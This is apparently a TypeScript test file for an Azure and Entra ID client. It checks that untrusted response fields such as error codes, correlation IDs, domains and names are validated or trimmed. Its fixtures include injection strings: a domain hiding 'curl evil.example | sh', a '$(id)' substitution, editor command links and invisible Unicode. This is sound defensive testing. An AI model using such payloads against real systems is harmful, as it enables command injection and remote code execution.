import { createPipelineRequest } from "@azure/core-rest-pipeline";
import { describe, expect, it } from "vitest";
import { createAzureArm } from "../../../src/azure/azureArm.ts";
import { EntraExchange } from "../../../src/identity/entraExchange.ts";
import { clouds } from "../../../src/model/cloud.ts";
import { isPalError, type PalError } from "../../../src/model/palError.ts";
import type { AccessToken } from "../../../src/model/ports.ts";
import { rawText } from "../../../src/model/untrusted.ts";

const token: AccessToken = { token: "t", cloud: "public", expiresAt: 0 };
const arm = (
  body: unknown,
  status: number,
  headers: Record<string, string> = {},
): ReturnType<typeof createAzureArm> =>
  createAzureArm(
    async () =>
      new Response(JSON.stringify(body), { status, headers: { "x-ms-request-id": "r", ...headers } }),
  );

/** The error that a call ends with. */
async function errorOf(call: Promise<unknown>): Promise<PalError> {
  const error: unknown = await call.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!isPalError(error)) {
    throw new Error("It did not fail as it should.", { cause: error });
  }
  return error;
}

/** What Entra ID's refusal is read as. */
async function refusedBy(body: unknown): Promise<PalError> {
  const answer = async (): Promise<Response> =>
    new Response(JSON.stringify(body), { status: 400, headers: { "x-ms-request-id": "r" } });
  const exchange = new EntraExchange(answer, clouds.public);
  const request = createPipelineRequest({ url: `${clouds.public.authority}/x` });
  await exchange.options.httpClient.sendRequest(request);
  return exchange.explain(new Error("failed"));
}

const noCodes = [
  "AADSTS50020 [press here](command:workbench.action.quit)",
  "a\nforged line",
  "```",
  "x".repeat(65),
  "1abc",
  "",
  "Not\u200bFound",
  "alice@contoso.com",
];

describe("What comes over the wire", () => {
  it.each(noCodes)("is no code of Azure if it does not look like one: %j", async (code) => {
    const error = await errorOf(arm({ error: { code, message: "m" } }, 403).readLink({ token }));
    expect(error.details).not.toHaveProperty("azureCode");
    expect(error.code).toBe("gatewayAnswered"); // ARM's own refusals have one
  });

  it.each(["AuthorizationFailed", "NotFound", "RequestDisallowedByPolicy", "Some.Code-1"])(
    "is a code if it looks like one: %s",
    async (code) => {
      const { details } = await errorOf(arm({ error: { code } }, 403).readLink({ token }));
      expect(details.azureCode).toBe(code);
    },
  );

  it.each(noCodes)("is no code of the network if it does not look like one: %j", async (code) => {
    const broken = createAzureArm(() => Promise.reject(Object.assign(new TypeError("x"), { code })));
    expect((await errorOf(broken.readLink({ token }))).details).not.toHaveProperty("networkCode");
  });

  it("is a code of the network even where causes go in a circle", async () => {
    const first = new Error("first");
    first.cause = new Error("second", { cause: first });
    const broken = createAzureArm(() => Promise.reject(first));
    expect((await errorOf(broken.readLink({ token }))).code).toBe("unreachable");
  });

  it.each(["[press here](command:x)", "x".repeat(129), "`x`"])(
    "is no correlation ID if it does not look like one: %s",
    async (id) => {
      const headers = { "x-ms-correlation-request-id": id };
      expect((await errorOf(arm({}, 403, headers).readLink({ token }))).details).not.toHaveProperty(
        "correlationId",
      );
      const linked = { properties: { partnerId: "4567890" } };
      expect(await arm(linked, 200, headers).readLink({ token })).not.toHaveProperty("correlationId");
    },
  );

  it("is cut: messages of errors, names and IDs", async () => {
    const long = "x".repeat(100_000);
    const { details } = await errorOf(
      arm({ error: { code: "BadRequest", message: long } }, 403).readLink({ token }),
    );
    expect(details.azureMessage).toHaveLength(8192);
    const properties = { partnerId: "4567890", partnerName: long, objectId: long };
    const { link } = await arm({ properties }, 200).readLink({ token });
    expect(link).toEqual({ partnerId: "4567890", partnerName: "x".repeat(512) });
    const tenantId = "6fd1f2f0-0000-4000-8000-000000000001";
    const [tenant] = await arm(
      { value: [{ tenantId, displayName: long, defaultDomain: long }] },
      200,
    ).listTenants({ token });
    expect(rawText(tenant?.displayName)).toHaveLength(512);
    expect(tenant).not.toHaveProperty("defaultDomain"); // half of one is another one
  });

  it.each([
    "contoso.com\ncurl evil.example | sh\n",
    "contoso.com\r",
    "contoso",
    "contoso.com/x",
    "https://contoso.com",
    "alice@contoso.com",
    "$(id).com",
    "con\u200btoso.com",
    "\u3164.com",
    7,
    ["contoso.com"],
  ])("is no domain if it does not look like one: %j", async (defaultDomain) => {
    const tenantId = "6fd1f2f0-0000-4000-8000-000000000001";
    expect(await arm({ value: [{ tenantId, defaultDomain }] }, 200).listTenants({ token })).toEqual([
      { tenantId, kind: "guest" },
    ]);
  });

  it.each(["contoso.com", "Contoso.onmicrosoft.com", "b\u00fccher.example", "xn--bcher-kva.xn--p1ai"])(
    "is a domain, as it came, if it looks like one: %s",
    async (defaultDomain) => {
      const tenantId = "6fd1f2f0-0000-4000-8000-000000000001";
      const [tenant] = await arm({ value: [{ tenantId, defaultDomain }] }, 200).listTenants({ token });
      expect(tenant?.defaultDomain).toBe(defaultDomain);
    },
  );

  it("is no partner ID if it is endless", async () => {
    const { code } = await errorOf(
      arm({ properties: { partnerId: "1".repeat(100) } }, 200).readLink({ token }),
    );
    expect(code).toBe("unreadableAnswer");
  });

  it("is no name if there is nothing to be seen of it", async () => {
    const tenantId = "6fd1f2f0-0000-4000-8000-000000000001";
    const [tenant] = await arm(
      { value: [{ tenantId, displayName: "\u200b\u3164", defaultDomain: "\u202e" }] },
      200,
    ).listTenants({ token });
    expect(tenant).toEqual({ tenantId, kind: "guest" });
    const properties = { partnerId: "4567890", partnerName: "\u200b" };
    expect((await arm({ properties }, 200).readLink({ token })).link).toEqual({ partnerId: "4567890" });
  });

  it("is no challenge if it is endless", async () => {
    const challenge = `Bearer claims="${btoa(`{"acrs":"${"x".repeat(20_000)}"}`)}"`;
    const { code } = await errorOf(
      arm({ code: "Unauthorized" }, 401, { "www-authenticate": challenge }).readLink({ token }),
    );
    expect(code).toBe("unauthorized");
  });

  it("is read of Entra ID in the same way", async () => {
    const forged = "AADSTS50020[press here](command:x) Correlation ID: 78d11590";
    expect((await refusedBy({ error: "e", error_description: forged })).details.azureCode).toBe(
      "AADSTS50020",
    );
    const { details } = await refusedBy({
      error: "e",
      error_description: `AADSTS${"1".repeat(90)}: ${"x ".repeat(50_000)}`,
    });
    expect(details).not.toHaveProperty("azureCode");
    expect(rawText(details.azureMessage)?.length).toBeLessThanOrEqual(8192);
  });
});
